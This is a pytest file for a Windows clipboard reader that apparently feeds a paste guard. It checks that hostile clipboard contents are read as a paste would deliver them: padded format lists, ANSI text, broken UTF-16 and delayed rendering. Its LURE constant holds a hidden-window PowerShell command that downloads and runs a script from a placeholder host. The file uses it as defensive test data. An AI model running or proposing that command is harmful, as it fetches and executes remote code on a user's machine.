"""The REAL Windows clipboard reader (CtypesWin32Clipboard and its thread) over user32/kernel32
fakes that behave as documented (tests/fakes_win32.py): hostile clipboards, delayed rendering."""

from __future__ import annotations

import threading
from collections.abc import Iterator

import pytest

from app.guard.os_clipboard import WANTED_FORMATS
from app.platform.clipboard import MAX_FORMAT, MAX_TEXT, ClipboardContent, ClipboardThread
from tests.fakes_win32 import (
    CF_TEXT,
    CF_UNICODETEXT,
    FakeWindowStation,
    fake_win32_clipboard,
    utf16,
)

LURE = "powershell -w hidden -c iwr https://cdn.example/x.ps1 | iex"


def read(station: FakeWindowStation, slack: int = 0) -> ClipboardContent:
    board, _, _ = fake_win32_clipboard(station, slack)
    board.begin()
    try:
        return board.read(frozenset(WANTED_FORMATS), MAX_TEXT, MAX_FORMAT)
    finally:
        board.end()


def test_text_behind_more_formats_than_are_listed_is_still_read() -> None:
    """A program can place hundreds of registered formats before the text: the listing stops
    at MAX_FORMATS (256), a paste takes CF_UNICODETEXT anyway, so the guard must read it too.
    (The old reader took the text only when the capped listing had reached it: None.)"""
    station = FakeWindowStation()
    junk = {station.register(f"Junk {i}"): b"x" for i in range(300)}
    station.copy({**junk, CF_UNICODETEXT: utf16(LURE)})
    content = read(station)
    assert content.text == LURE
    assert "CF_UNICODETEXT" in content.targets


def test_text_placed_only_as_ansi_is_read_as_windows_converts_it() -> None:
    station = FakeWindowStation()
    station.copy({CF_TEXT: LURE.encode("cp1252") + b"\x00"})
    assert read(station).text == LURE


@pytest.mark.parametrize(
    ("raw", "slack", "expected"),
    [
        (utf16("a\ud800b"), 7, "a\ufffdb"),  # a lone surrogate: replaced, never an exception
        (utf16("visible") + utf16("hidden"), 7, "visible"),  # a paste stops at the first NUL
        ("odd".encode("utf-16-le") + b"\x41", 0, "odd\ufffd"),  # an odd last byte, no NUL
        (b"", 0, ""),
    ],
)
def test_hostile_unicode_text_is_read_as_a_paste_gives_it(
    raw: bytes, slack: int, expected: str
) -> None:
    station = FakeWindowStation()
    station.copy({CF_UNICODETEXT: raw})
    assert read(station, slack).text == expected  # GlobalSize's slack after the NUL: ignored


def test_a_format_that_is_no_memory_block_is_skipped() -> None:
    station = FakeWindowStation()
    html = station.register("HTML Format")
    station.copy({html: b"", CF_UNICODETEXT: utf16("hello")})
    content = read(station)
    assert content.text == "hello" and content.formats.get("HTML Format", b"") == b""


@pytest.fixture
def reader() -> Iterator[tuple[ClipboardThread, FakeWindowStation, list[ClipboardContent]]]:
    board, station, _ = fake_win32_clipboard()
    seen: list[ClipboardContent] = []
    changed = threading.Event()

    def on_change(content: ClipboardContent) -> None:
        seen.append(content)
        changed.set()

    thread = ClipboardThread(board, on_change, WANTED_FORMATS, "win32-clipboard")
    thread.changed = changed  # type: ignore[attr-defined]
    yield thread, station, seen
    thread.stop()


def test_a_delayed_text_rendered_by_the_read_is_handed_over_once(
    reader: tuple[ClipboardThread, FakeWindowStation, list[ClipboardContent]],
) -> None:
    """Rendering on demand moves the sequence number during the reader's own read (the docs):
    the reader reads again, and the guard is handed the text once, with the number after it."""
    thread, station, seen = reader
    station.copy({CF_UNICODETEXT: lambda: utf16(LURE)})
    assert thread.start()
    assert thread.changed.wait(10)  # type: ignore[attr-defined]
    assert [c.text for c in seen] == [LURE] and station.renders == 1
    assert thread.current_text() == LURE  # the number it kept is the rendered one
